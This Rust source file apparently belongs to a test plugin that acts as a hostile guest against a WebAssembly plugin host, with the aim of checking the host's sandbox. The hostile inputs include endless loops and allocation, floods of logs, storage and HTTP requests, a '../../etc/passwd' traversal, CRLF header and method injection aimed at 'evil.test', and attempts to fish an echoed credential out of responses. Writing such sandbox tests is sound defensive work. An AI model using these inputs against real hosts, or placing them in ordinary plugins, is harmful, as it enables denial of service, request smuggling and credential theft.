//! What can be done in any call: using up what a guest is given, asking for what it is not, and failing.

use std::hint::black_box;

use affluent_sdk::bindings::imports::affluent::plugin::types::PluginError;
use affluent_sdk::files::{Reader, Writer};
use affluent_sdk::runtime::{self, Level};
use affluent_sdk::{Error, http, kv};

use crate::{Behaviour, Config};

/// Calls of a service in a flood.
const FLOOD: u32 = 1_000_000;
/// Bytes of something huge; larger than what any text may be, smaller than the guest's memory.
pub const HUGE_BYTES: usize = 8 * 1024 * 1024;

/// A text of [`HUGE_BYTES`].
pub fn huge_text() -> String {
    "x".repeat(HUGE_BYTES)
}

/// Does the behaviour if it is one of these; others and the well-behaved do nothing.
///
/// # Errors
/// The error that the behaviour is about, and what the host says to requests.
pub fn act(behaviour: Behaviour, config: &Config) -> Result<(), PluginError> {
    use_up(behaviour);
    fail(behaviour)?;
    reach_out(behaviour, config)?;
    Ok(())
}

#[expect(clippy::panic, clippy::exit, clippy::print_stderr, clippy::print_stdout, reason = "the behaviours are about these")]
fn use_up(behaviour: Behaviour) {
    match behaviour {
        Behaviour::Panic => panic!("ada@example.org at index 7"),
        Behaviour::PanicOnce if is_first_time() => panic!("only once"),
        Behaviour::LoopForever => {
            let mut count = 0u64;
            loop {
                count = black_box(count.wrapping_add(1));
            }
        }
        Behaviour::AllocateForever => {
            let mut kept = Vec::new();
            loop {
                kept.push(black_box(vec![1u8; 1024 * 1024]));
            }
        }
        Behaviour::RecurseForever => {
            black_box(recurse(1));
        }
        Behaviour::Exit => std::process::exit(3),
        Behaviour::ExitZero => std::process::exit(0),
        Behaviour::SleepLong => runtime::sleep_ms(3_600_000),
        Behaviour::SleepOutside => std::thread::sleep(std::time::Duration::from_secs(3_600)),
        Behaviour::FloodLogs => flood(|| runtime::info("line")),
        Behaviour::HugeLog => runtime::log(Level::Info, &huge_text(), &[("field", &huge_text())]),
        Behaviour::FloodStderr => flood(|| eprintln!("ada@example.org")),
        Behaviour::FloodStdout => flood(|| println!("ada@example.org")),
        Behaviour::FloodMetrics => (0..FLOOD).for_each(|number| runtime::metric(&format!("metric_{number}"), f64::NAN, &[])),
        Behaviour::FloodRandom => {
            black_box(runtime::random_bytes(u32::MAX));
        }
        _ => {}
    }
}

fn flood(mut call: impl FnMut()) {
    for _ in 0..FLOOD {
        call();
    }
}

#[expect(unconditional_recursion, reason = "the behaviour is about it")]
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    // Not a tail call: the frame is used afterwards.
    recurse(depth + 1) + frame.iter().sum::<u64>()
}

/// True the first time in this pipeline, also over several instances.
fn is_first_time() -> bool {
    let is_first = kv::get("was_here").is_none();
    is_first && kv::put("was_here", b"1").is_ok()
}

fn fail(behaviour: Behaviour) -> Result<(), Error> {
    match behaviour {
        Behaviour::HugeErrorMessage => Err(Error::internal(huge_text()).code(huge_text()).details(huge_text())),
        Behaviour::RateLimitedForever => Err(Error::rate_limited(u64::MAX)),
        Behaviour::TransientOnce if is_first_time() => Err(Error::transient("only once")),
        Behaviour::AuthError => Err(Error::auth("the token was refused")),
        Behaviour::ConfigError => Err(Error::config("the shop does not exist")),
        Behaviour::FloodKv => (0..FLOOD).try_for_each(|number| kv::put(&number.to_string(), &[0; 1_024])),
        Behaviour::HugeKvValue => kv::put("huge", huge_text().as_bytes()),
        Behaviour::FileNotGranted => Reader::open("../../etc/passwd").map(drop),
        Behaviour::HoardHandles => (0..FLOOD).try_for_each(|_| Reader::open("held.jsonl").map(std::mem::forget)),
        Behaviour::OutputNotGranted => Writer::open("/tmp/hostile").and_then(Writer::commit),
        _ => Ok(()),
    }
}

/// Tells everything that came back of a request whose remote echoes the credential.
fn fish(request: http::Request) -> Result<(), Error> {
    let response = request.send()?;
    let seen = format!("{:?} {}", response.header("x-echo"), String::from_utf8_lossy(response.body()));
    runtime::info(&seen);
    Err(Error::internal(seen))
}

/// The same, read in pieces that are shorter than the credential.
fn fish_in_pieces(request: http::Request) -> Result<(), Error> {
    let (_, body) = request.open()?;
    let mut seen = Vec::new();
    while let Some(piece) = body.read(7)? {
        seen.extend_from_slice(&piece);
    }
    Err(Error::internal(String::from_utf8_lossy(&seen).into_owned()))
}

fn reach_out(behaviour: Behaviour, config: &Config) -> Result<(), Error> {
    let url = |default: &str| config.url.clone().unwrap_or_else(|| default.to_owned());
    let granted = || http::get(url("https://hostile.test/"));
    let sent = match behaviour {
        Behaviour::HttpGet => granted().auth("token").send(),
        Behaviour::HttpGetJson => return granted().auth("token").send()?.json::<serde_json::Value>().map(drop),
        Behaviour::HttpNotGranted => http::get(url("https://not-granted.test/")).auth("token").send(),
        Behaviour::HttpHeaderFlood => {
            let flooded = (0..100_000).fold(granted(), |request, number| request.header(&format!("x-{number}"), "1"));
            flooded.send()
        }
        Behaviour::HttpForbiddenHeaders => {
            let names =
                ["Authorization", "Host", "Cookie", "Proxy-Authorization", "Content-Length", "Transfer-Encoding", "Connection"];
            names.into_iter().fold(granted(), |request, name| request.header(name, "forged")).auth("token").send()
        }
        Behaviour::HttpBrokenHeader => granted().header("x-a\r\nx-b", "1\r\nHost: evil.test\r\n\r\n").send(),
        Behaviour::HttpBrokenMethod => {
            http::Request::new("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\nGET", url("https://hostile.test/")).send()
        }
        Behaviour::FishSecret => return fish(granted().auth("token")),
        Behaviour::FishSecretInPieces => return fish_in_pieces(granted().auth("token")),
        Behaviour::HttpUnknownSlot => granted().auth("other").send(),
        Behaviour::HttpFlood => {
            let requests = (0..10_000).map(|_| granted()).collect();
            http::send_all(requests, u8::MAX).into_iter().last().unwrap_or_else(|| granted().send())
        }
        Behaviour::HttpHugeBody => {
            http::post(url("https://hostile.test/")).body("text/plain", huge_text().repeat(2).into_bytes()).send()
        }
        _ => return Ok(()),
    };
    sent.map(drop)
}
